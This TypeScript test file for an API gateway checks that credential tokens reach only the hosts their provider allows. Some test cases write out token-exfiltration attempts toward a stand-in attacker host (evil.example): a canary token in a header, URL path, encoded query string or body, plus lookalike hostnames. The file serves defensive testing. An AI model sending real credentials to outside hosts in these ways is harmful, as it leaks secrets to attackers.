import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { holding, holdTokens } from '../../src/gateway/3-fetch/token-hosts.ts';
import { next } from '../../src/runtime/handler.ts';
import { Secret } from '../../src/runtime/ports/credential-source.ts';
import { canary, testCredentials, withToken } from './support/credentials.ts';
import { ask, handler, handlers, openGateway, type TestGateway } from './support/gateway.ts';
import { openBooks, type TestSubgraph } from './support/subgraph.ts';

let books: TestSubgraph;
let gateway: TestGateway | undefined;

beforeAll(async () => {
  books = await openBooks();
});
afterAll(() => books.close());
afterEach(async () => {
  books.received.length = 0;
  await gateway?.close();
});

const open = async (hosts: readonly string[] | undefined, more: Parameters<typeof handlers>[0] = {}): Promise<TestGateway> => {
  gateway = await openGateway([books], {
    credentials: testCredentials(hosts),
    handlers: handlers({ books: handler({ inbound: withToken() }), ...more }),
  });
  return gateway;
};

describe('a token goes', () => {
  it.each<[readonly string[] | undefined]>([[undefined], [['127.0.0.1']], [['api.example.com', '127.0.0.1']], [['*.0.0.1']]])(
    'where its provider says: %j',
    async (hosts) => {
      const answer = await ask(await open(hosts), '{ newest { title } }');
      expect(answer.errors).toEqual([]);
      expect(books.received[0]?.headers.authorization).toBe(`Bearer ${canary}-1`);
    },
  );

  it('and nowhere else: nothing is sent, and the operator reads why', async () => {
    const answer = await ask(await open(['api.example.com', '*.example.org']), '{ newest { title } }');
    expect(answer.errors[0]?.extensions).toMatchObject({ code: 'POLICY_ERROR', subgraph: 'books' });
    expect(books.received).toEqual([]);
    const log = gateway?.logText() ?? '';
    expect(log).toContain('the token of `demo/org` may go to `api.example.com`, `*.example.org` only, and not to `127.0.0.1`');
    expect(answer.text + log).not.toContain(canary);
  });

  it('also when global.xml took it', async () => {
    const keep = withToken();
    await open(['api.example.com'], {
      global: handler({
        inbound: async (x) => {
          await keep(x);
          x.context.variables.set('token', `${x.tokens[0]?.token.accessToken.reveal()}`);
          x.headers.delete('Authorization');
          return next;
        },
      }),
      books: handler({
        inbound: (x) => {
          x.headers.set('X-Api-Key', [String(x.context.variables.get('token'))]);
          return next;
        },
      }),
    });
    if (gateway === undefined) throw new Error('no gateway');
    expect((await ask(gateway, '{ newest { title } }')).errors[0]?.extensions).toMatchObject({ code: 'POLICY_ERROR' });
    expect(books.received).toEqual([]);
  });

  it('nor by a request of a policy’s own', async () => {
    const failures: unknown[] = [];
    const asks = handler({
      inbound: async (x) => {
        const { accessToken } = await x.ports.credentials.get({ provider: 'demo', connection: 'org', asker: { kind: 'managed' } });
        const headers = [['authorization', `Bearer ${accessToken.reveal()}`]] as const;
        const request = { method: 'GET', url: books.url, headers, body: null, timeoutMs: 1_000, followRedirects: false, signal: undefined };
        await x.ports.send(request).catch((error: unknown) => failures.push(error));
        return next;
      },
    });
    expect((await ask(await open(['api.example.com'], { books: asks }), '{ newest { title } }')).errors).toEqual([]);
    expect(failures).toEqual([
      expect.objectContaining({ name: 'SendFailure', kind: 'refused', message: expect.stringContaining('`demo/org`') }),
    ]);
    expect(books.received).toHaveLength(1);
  });

  it('not at all when nothing carries it', async () => {
    const withoutHeader = handler({
      inbound: async (x) => {
        await withToken()(x);
        x.headers.delete('Authorization');
        return next;
      },
    });
    expect((await ask(await open(['api.example.com'], { books: withoutHeader }), '{ newest { title } }')).errors).toEqual([]);
  });
});

const hand = (hosts: readonly string[]) =>
  new Map([
    [
      { accessToken: new Secret('canary/token'), claims: {}, expiresAt: 0, generation: 1, hosts },
      { provider: 'p', connection: 'c' },
    ],
  ]);
const bearer = [['authorization', 'Bearer canary/token']] as const;

describe('what is seen', () => {
  it.each<[string, string, Partial<Parameters<typeof holdTokens>[1]>]>([
    ['a header', 'https://evil.example/', { headers: bearer }],
    ['the URL', 'https://evil.example/canary/token', {}],
    ['the URL, encoded', 'https://evil.example/?t=canary%2Ftoken', {}],
    ['a text', 'https://evil.example/', { body: '{"t":"canary/token"}' }],
    ['bytes', 'https://evil.example/', { body: new TextEncoder().encode('canary/token') }],
    ['a name that only ends like it', 'https://evilapi.example.com/', { headers: bearer }],
    ['the domain itself, where names under it are meant', 'https://example.org/', { headers: bearer }],
    ['a name under it, where itself is meant', 'https://x.api.example.com/', { headers: bearer }],
    ['what is no URL', 'nonsense', { headers: bearer }],
  ])('%s', (_, url, parcel) => {
    expect(() => holdTokens(hand(['api.example.com', '*.example.org']), { url, headers: [], body: null, ...parcel })).toThrow(/`p\/c`/);
  });

  it.each(['https://API.example.com/', 'https://api.example.com:8443/x', 'https://a.b.example.org/'])('%s is allowed', (url) => {
    expect(() => holdTokens(hand(['api.example.com', '*.example.org']), { url, headers: bearer, body: null })).not.toThrow();
  });

  it('holds for what policies send themselves', async () => {
    let sent = 0;
    const send = holding(hand(['api.example.com']), () => {
      sent++;
      return Promise.resolve({ status: 200, reason: '', headers: [], body: new Uint8Array() });
    });
    const request = { method: 'GET', headers: bearer, body: null, timeoutMs: 1, followRedirects: false, signal: undefined };
    await expect(send({ ...request, url: 'https://evil.example/' })).rejects.toMatchObject({ name: 'SendFailure', kind: 'refused' });
    await send({ ...request, url: 'https://api.example.com/' });
    expect(sent).toBe(1);
  });
});
